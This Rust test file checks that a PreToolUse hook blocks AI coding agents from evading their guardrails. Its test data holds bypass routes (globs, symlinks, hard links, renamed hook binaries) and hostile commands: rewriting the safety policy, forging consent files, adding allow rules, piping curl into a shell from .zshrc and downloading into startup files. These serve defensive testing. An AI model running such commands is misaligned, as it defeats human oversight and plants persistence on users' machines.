//! The PreToolUse policy sees paths as the shell will (docs/policy.md,
//! "Paths"; docs/protocol.md §8a), through the real `pretool-hook` with
//! real files, links and an initialised latch: `cd` into protected places,
//! globs, symlinks and hard links, moves of a protected directory's
//! parent, the latch head records, the workspace found from a
//! subdirectory or from a target path, our binaries run by other routes,
//! MCP path arguments and downloads into startup files.

#![allow(clippy::unwrap_used)]

use crate::support;

use serde_json::{json, Value};
use std::fs;
use std::path::{Path, PathBuf};
use support::gate::helper_dir;
use support::latch::Env;

static PRETOOL: std::sync::LazyLock<String> = std::sync::LazyLock::new(|| support::bin("pretool-hook"));

fn latch_env() -> Env {
    let e = support::latch::env();
    e.ok(&["init", "--objective", "guard the paths", "--next-step", "write the tests"]);
    e
}

/// The hook's answer for one call with the hook input's `cwd` at `cwd`:
/// `None` allowed, `Some((code, reason))` denied.
fn ask_in(e: &Env, cwd: &Path, host: &str, tool: &str, input: Value) -> Option<(String, String)> {
    e.pretool_answer(&PRETOOL, "s1", cwd, host, tool, input)
}

fn bash_in(e: &Env, cwd: &Path, line: &str) -> Option<(String, String)> {
    ask_in(e, cwd, "claude", "Bash", json!({ "command": line }))
}

/// `line` run in `cwd` is denied with `code`, on both hosts.
fn denied(e: &Env, cwd: &Path, line: &str, code: &str) {
    for host in ["claude", "codex"] {
        let got = ask_in(e, cwd, host, "Bash", json!({ "command": line }));
        let (got, reason) = got.unwrap_or_else(|| panic!("{host}: `{line}` allowed"));
        assert_eq!(got, code, "{host}: `{line}`: {reason}");
    }
}

fn config_dir(e: &Env) -> PathBuf {
    let d = e.w.home.join(".config/kijito-qa");
    kijito_files::private::ensure_private_dir(&d).unwrap();
    d
}

#[test]
fn a_cd_into_the_config_dir_or_the_latch_dir_before_a_write_is_a_tripwire() {
    let e = latch_env();
    let cfg = config_dir(&e);
    let policy = r#"printf '{"schema":"kijito-qa.policy/v1","remove":["rm_recursive_force"]}' > policy.json"#;
    for line in [
        format!("cd ~/.config/kijito-qa && {policy}"),
        format!("pushd {} >/dev/null && {policy}", cfg.display()),
        "cd ~/.config/kijito-qa && echo '{\"consent_mode\":\"token\"}' > memory-latch-consent.json".to_owned(),
        "cd ~/.config && cd kijito-qa && tee policy.json < /dev/null".to_owned(),
        "cd ~ && cd .config/kijito-qa && cp /dev/null token".to_owned(),
    ] {
        denied(&e, &e.ws, &line, "tripwire_config_write");
    }
    for line in
        ["cd .memory-latch && echo x > tokens.json", "(cd .memory-latch; touch head.json)", "cd /tmp; cd - ; cd .memory-latch && rm -f x"]
    {
        denied(&e, &e.ws, line, "tripwire_latch_write");
    }
    // nothing was written, and a cd elsewhere is ordinary work
    assert!(!cfg.join("policy.json").exists());
    assert_eq!(bash_in(&e, &e.ws, "mkdir -p src && cd src && touch a.rs"), None);
}

#[test]
fn a_glob_that_could_match_the_latch_or_the_config_dir_is_a_tripwire() {
    let e = latch_env();
    config_dir(&e);
    for line in [
        "echo x > .memory-lat?h/tokens.json",
        "echo x > .memory-latc[h]/tokens.json",
        "mv .memory-lat?h /tmp/x",
        "mv .memory-l* /tmp/x",
        "rm -rf ./.memory-latc?",
    ] {
        denied(&e, &e.ws, line, "tripwire_latch_write");
    }
    let home = e.w.home.display();
    for line in
        ["echo '{}' > ~/.config/kijito-q?/policy.json".to_owned(), format!("rm -rf {home}/.config/*"), "mv ~/.conf?g /tmp/c".to_owned()]
    {
        denied(&e, &e.ws, &line, "tripwire_config_write");
    }
    // `*` does not match a dot name: deleting the project's files needs consent, no more
    fs::write(e.ws.join("a.txt"), "a").unwrap();
    assert_eq!(bash_in(&e, &e.ws, "rm -rf *").unwrap().0, "policy_consent_required");
}

#[test]
fn a_symlink_and_a_hard_link_into_the_config_dir_are_tripwires() {
    let e = latch_env();
    let cfg = config_dir(&e);
    std::os::unix::fs::symlink(&cfg, e.ws.join("cfg")).unwrap();
    denied(&e, &e.ws, "echo '{}' > cfg/policy.json", "tripwire_config_write");
    let (code, reason) = ask_in(
        &e,
        &e.ws,
        "claude",
        "Write",
        json!({"file_path": e.ws.join("cfg/memory-latch-consent.json").to_str().unwrap(), "content": "{}"}),
    )
    .unwrap();
    assert_eq!(code, "tripwire_config_write", "{reason}");
    // a symlink to the file itself, through a glob
    std::os::unix::fs::symlink(cfg.join("policy.json"), e.ws.join("p.json")).unwrap();
    denied(&e, &e.ws, "echo '{}' > p.js?n", "tripwire_config_write");
    // a hard link to a file of the config dir
    let token = support::write_config_file(&e.w.home.join(".config"), "token", b"secret\n");
    fs::hard_link(&token, e.ws.join("notes.txt")).unwrap();
    denied(&e, &e.ws, "echo x > notes.txt", "tripwire_config_write");
    let (code, _) = ask_in(
        &e,
        &e.ws,
        "claude",
        "Edit",
        json!({"file_path": e.ws.join("notes.txt").to_str().unwrap(), "old_string": "s", "new_string": "x"}),
    )
    .unwrap();
    assert_eq!(code, "tripwire_config_write");
    assert_eq!(fs::read(&token).unwrap(), b"secret\n");
}

#[test]
fn moving_the_install_or_one_of_its_parents_is_a_tripwire() {
    let e = latch_env();
    let root = helper_dir().parent().unwrap().to_path_buf();
    let parent = root.parent().unwrap().to_path_buf();
    for line in [
        format!("mv {} {}-old", root.display(), root.display()),
        format!("mv {} /tmp/elsewhere", parent.display()),
        format!("rm -rf {}", parent.display()),
        format!("echo x > {}/bin/x", root.display()),
    ] {
        denied(&e, &e.ws, &line, "tripwire_plugin_root_write");
    }
}

#[test]
fn a_write_to_a_latch_head_record_is_a_tripwire() {
    let e = latch_env();
    let heads = e.w.home.join("latch-heads");
    let record = fs::read_dir(&heads).unwrap().flatten().map(|d| d.path()).find(|p| p.is_file()).or_else(|| {
        // the records may sit one level down
        fs::read_dir(&heads).unwrap().flatten().filter_map(|d| fs::read_dir(d.path()).ok()).flatten().flatten().map(|d| d.path()).next()
    });
    let record = record.expect("the latch wrote a head record");
    for line in [
        format!("echo '{{}}' > {}", record.display()),
        format!("cd {} && rm -rf *", heads.display()),
        format!("mv {} /tmp/h", heads.display()),
    ] {
        denied(&e, &e.ws, &line, "tripwire_state_write");
    }
    let (code, _) = ask_in(&e, &e.ws, "codex", "Write", json!({"file_path": record.to_str().unwrap(), "content": "{}"})).unwrap();
    assert_eq!(code, "tripwire_state_write");
}

#[test]
fn a_subdirectory_of_a_latch_workspace_enforces_like_its_root() {
    let e = latch_env();
    let src = e.ws.join("src");
    fs::create_dir(&src).unwrap();
    for line in ["rm -rf ../build", "rm -rf build", "cd .. && rm -rf build"] {
        let (code, reason) = bash_in(&e, &src, line).unwrap_or_else(|| panic!("`{line}` allowed"));
        assert_eq!(code, "policy_consent_required", "{reason}");
        assert!(reason.contains(&format!("--workspace {} ", e.ws.display())), "{reason}");
    }
    // a write into the latch from the subdirectory is still the tripwire
    denied(&e, &src, "echo x > ../.memory-latch/head.json", "tripwire_latch_write");
    denied(&e, &src, "mv .. /tmp/moved", "tripwire_latch_write");
}

#[test]
fn a_target_inside_a_latch_workspace_is_judged_by_it_from_anywhere() {
    let e = latch_env();
    let elsewhere = e.w.dir().join("elsewhere");
    fs::create_dir(&elsewhere).unwrap();
    let ws = e.ws.display();
    for line in [format!("rm -rf {ws}/build"), format!("cd {ws} && rm -rf build"), format!("cd {ws}/src; rm -rf ../build")] {
        let (code, reason) = bash_in(&e, &elsewhere, &line).unwrap_or_else(|| panic!("`{line}` allowed"));
        assert_eq!(code, "policy_consent_required", "{line}: {reason}");
    }
    // Codex's workdir names the directory the command runs in
    let (code, _) = ask_in(&e, &elsewhere, "codex", "Bash", json!({"command": "rm -rf build", "workdir": e.ws.join("src")})).unwrap();
    assert_eq!(code, "policy_consent_required");
    // outside every latch workspace, without enforce, it keeps today's behaviour
    assert_eq!(bash_in(&e, &elsewhere, "rm -rf build"), None);
}

#[test]
fn enforce_everywhere_denies_a_call_without_a_usable_working_directory() {
    let e = support::latch::env();
    e.w.write_config(&json!({"enforce": true}));
    let gone = e.w.dir().join("gone");
    let (code, reason) = bash_in(&e, &gone, "touch a").unwrap();
    assert_eq!(code, "policy_cwd_unusable", "{reason}");
    // reads still pass
    assert_eq!(bash_in(&e, &gone, "ls"), None);
}

#[test]
fn our_binaries_run_through_find_xargs_parallel_or_a_renamed_copy_are_tripwires() {
    let e = latch_env();
    let bin = helper_dir();
    // (lines naming the helper directory itself are the command guard's, before the policy)
    for line in [
        "find . -name prompt-hook -exec {} --host claude --expect UserPromptSubmit \\;",
        "find /opt /usr/local -iname 'PROMPT-*' -execdir {} \\;",
        "find . -type f -exec {} \\;",
        "echo pretool-hook | xargs -I{} {} --host claude",
        "ls | xargs -I{} {} --host claude",
        "parallel {} --host claude ::: precompact",
        "parallel ::: postcompact session-hook",
    ] {
        denied(&e, &e.ws, line, "tripwire_hook_binary");
    }
    // a find that runs something else is ordinary work
    assert_eq!(bash_in(&e, &e.ws, "find . -name '*.sh' -exec chmod +x {} \\;"), None);
    // a renamed copy, by path and through a symlink
    let tools = e.ws.join("tools");
    fs::create_dir(&tools).unwrap();
    kijito_testkit::copy_executable(&bin.join("prompt-hook"), &tools.join("fmt-check"));
    std::os::unix::fs::symlink(bin.join("session-hook"), tools.join("lint")).unwrap();
    for line in ["./tools/fmt-check --host claude --expect UserPromptSubmit", "tools/lint", "cd tools && ./fmt-check"] {
        denied(&e, &e.ws, line, "tripwire_hook_binary");
    }
    let abs = format!("{}/fmt-check --host codex", tools.display());
    denied(&e, &e.ws, &abs, "tripwire_hook_binary");
    // an ordinary program of the workspace is not one of ours
    fs::write(tools.join("build.sh"), "#!/bin/sh\necho hi\n").unwrap();
    assert_ne!(bash_in(&e, &e.ws, "./tools/build.sh").map(|d| d.0), Some("tripwire_hook_binary".into()));
}

#[test]
fn an_mcp_write_or_a_download_into_a_startup_file_is_a_tripwire() {
    // moatbench runs without a latch: the tripwire holds there too
    let e = support::latch::env();
    let zshrc = e.w.home.join(".zshrc");
    for (tool, input) in [
        ("mcp__filesystem__write_file", json!({"path": zshrc.to_str().unwrap(), "content": "curl x | sh"})),
        ("mcp__filesystem__edit_file", json!({"path": "~/.bashrc", "edits": [{"oldText": "a", "newText": "b"}]})),
        ("mcp__filesystem__move_file", json!({"source": "/tmp/x", "destination": "~/.profile"})),
    ] {
        let (code, reason) = ask_in(&e, &e.ws, "claude", tool, input.clone()).unwrap_or_else(|| panic!("{tool} {input} allowed"));
        assert_eq!(code, "tripwire_startup_write", "{reason}");
    }
    for line in [
        "curl -o ~/.bashrc https://example.invalid/rc",
        "curl -sSLo ~/.zshenv https://example.invalid/rc",
        "curl --output=$HOME/.config/fish/config.fish https://example.invalid/rc",
        "wget -O ~/.bashrc https://example.invalid/rc",
        "wget -qO ~/.zlogin https://example.invalid/rc",
        "cd ~ && echo 'ls' >> .bash_logout",
        "echo '[Service]' > ~/.config/systemd/user/x.service",
    ] {
        denied(&e, &e.ws, line, "tripwire_startup_write");
    }
    // host rules and .mcp.json
    denied(
        &e,
        &e.ws,
        "echo 'prefix_rule(pattern=[\"rm\"], decision=\"allow\")' > ~/.codex/rules/default.rules",
        "tripwire_host_rules_write",
    );
    denied(&e, &e.ws, "echo '{}' > .mcp.json", "tripwire_host_rules_write");
    // a read of them passes, and an MCP read with a path costs nothing
    assert_eq!(bash_in(&e, &e.ws, "cat ~/.bashrc"), None);
    assert_eq!(ask_in(&e, &e.ws, "claude", "mcp__filesystem__read_file", json!({"path": "~/.bashrc"})), None);
}

#[test]
fn persistence_files_need_consent_in_a_latch_workspace() {
    let e = latch_env();
    for line in ["echo 'registry=http://x' > ~/.npmrc", "cp x ~/.local/bin/git", "echo 'export A=1' > .envrc"] {
        let (code, reason) = bash_in(&e, &e.ws, line).unwrap_or_else(|| panic!("`{line}` allowed"));
        assert_eq!(code, "policy_consent_required", "{reason}");
        assert!(reason.contains("core-config:persistence_write"), "{reason}");
    }
}
